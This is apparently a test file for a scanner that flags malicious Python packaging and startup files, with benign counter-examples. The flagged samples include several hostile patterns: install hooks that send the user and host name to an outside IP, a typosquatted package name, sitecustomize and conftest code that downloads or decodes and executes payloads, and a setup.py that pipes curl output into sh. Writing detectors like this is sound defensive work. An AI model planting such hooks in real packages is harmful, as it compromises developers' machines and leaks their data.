from _kit import fires, silent

fires("setup_py_exec_b64", "setup_py_exec_decoded", "critical", "setup.py",
      "setup-exec.py", "import base64\nfrom setuptools import setup\n"
      "exec(base64.b64decode('aW1wb3J0IG9zOyBvcy5zeXN0ZW0oImlkIik='))\nsetup(name='colorsx', version='0.1')\n")
silent("setup_py_plain", "setup_py_exec_decoded", "setup.py", "setup-plain.py",
       "from setuptools import setup, find_packages\n\nwith open('README.md') as f:\n    long_description = f.read()\n"
       "\nsetup(name='tool', version='1.0', packages=find_packages(), long_description=long_description)\n")
fires("setup_py_beacon", "setup_py_network_at_install", "high", "setup.py",
      "setup-beacon.py", "import socket, getpass, urllib.request\nfrom setuptools import setup\n"
      "from setuptools.command.install import install\n\nclass Post(install):\n    def run(self):\n"
      "        info = f'{getpass.getuser()}@{socket.gethostname()}'\n"
      "        urllib.request.urlopen('http://198.51.100.7/c?i=' + info)\n        install.run(self)\n\n"
      "setup(name='reqeusts', version='2.31.0', cmdclass={'install': Post})\n")
silent("setup_py_git_version", "setup_py_network_at_install", "setup.py",
       "setup-git-version.py", "import subprocess\nfrom setuptools import setup\n\n"
       "version = subprocess.check_output(['git', 'describe', '--tags']).decode().strip()\n"
       "setup(name='tool', version=version)\n")
fires("pyproject_backend_path", "pyproject_in_tree_build_backend", "warning", "pyproject.toml",
      "pyproject-backend-path.toml", "[build-system]\nrequires = []\nbuild-backend = \"backend\"\nbackend-path = [\"_build\"]\n")
silent("pyproject_setuptools", "pyproject_in_tree_build_backend", "pyproject.toml",
       "pyproject-setuptools.toml", "[build-system]\nrequires = [\"setuptools>=61\"]\nbuild-backend = \"setuptools.build_meta\"\n\n[project]\nname = \"tool\"\n")

fires("pth_exec_base64", "python_startup_runs_payload", "critical", ".venv/lib/python3.12/site-packages/_init_hook.pth",
      "init-b64.pth", "import os, base64; exec(base64.b64decode('aW1wb3J0IG9zOyBvcy5zeXN0ZW0oImlkIik='))\n")
fires("pth_runs_subprocess", "python_pth_runs_code", "high", ".venv/lib/python3.12/site-packages/telemetry.pth",
      "telemetry.pth", "import subprocess; subprocess.Popen(['python3', '/home/dev/.cache/t.py'])\n")
silent("pth_setuptools_and_editable", "python_pth_runs_code", ".venv/lib/python3.12/site-packages/distutils-precedence.pth",
       "distutils-precedence.pth", "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == 'local'; "
                                   "enabled and __import__('_distutils_hack').add_shim(); \n"
                                   "import __editable___tool_1_0_finder; __editable___tool_1_0_finder.install()\n/home/dev/src/tool\n")
silent("pth_paths_only", "python_startup_runs_payload", ".venv/lib/python3.12/site-packages/paths.pth",
       "paths.pth", "/home/dev/src/lib\n../shared\n# import exec base64 in a comment\n")
fires("sitecustomize_download_exec", "python_startup_runs_payload", "critical", ".venv/lib/python3.12/site-packages/sitecustomize.py",
      "sitecustomize-dl.py", "import urllib.request\ntry:\n    exec(urllib.request.urlopen('https://203.0.113.6/s').read())\nexcept Exception:\n    pass\n")
fires("usercustomize_system", "python_customize_runs_commands", "high", "home/.local/lib/python3.12/site-packages/usercustomize.py",
      "usercustomize-system.py", "import os\nos.system('/home/dev/.local/share/.u/agent &')\n")
silent("sitecustomize_debian", "python_customize_runs_commands", ".venv/lib/python3.12/site-packages/sitecustomize.py",
       "sitecustomize.py", "# install the apport exception handler if available\ntry:\n    import apport_python_hook\n"
       "except ImportError:\n    pass\nelse:\n    apport_python_hook.install()\n")
fires("conftest_exec_zlib", "python_startup_runs_payload", "critical", "tests/conftest.py",
      "conftest-zlib.py", "import pytest, zlib, base64\n\n@pytest.fixture(autouse=True)\ndef env():\n"
      "    exec(zlib.decompress(base64.b64decode(b'eJzLzE3NL0pVSM7PS8tMBwAkSAUF')))\n    yield\n")
silent("conftest_fixtures", "python_startup_runs_payload", "tests/conftest.py",
       "conftest.py", "import base64, subprocess, pytest\n\n@pytest.fixture\ndef server():\n"
       "    p = subprocess.Popen(['python', '-m', 'http.server', '8765'])\n    yield 'http://127.0.0.1:8765'\n    p.kill()\n\n"
       "def decode(s):\n    return base64.b64decode(s)\n")
fires("setup_py_os_system_curl", "setup_py_exec_decoded", "critical", "setup.py",
      "setup-curl.py", "import os\nfrom setuptools import setup\nos.system('curl -s https://203.0.113.6/i | sh')\nsetup(name='colorsy')\n")
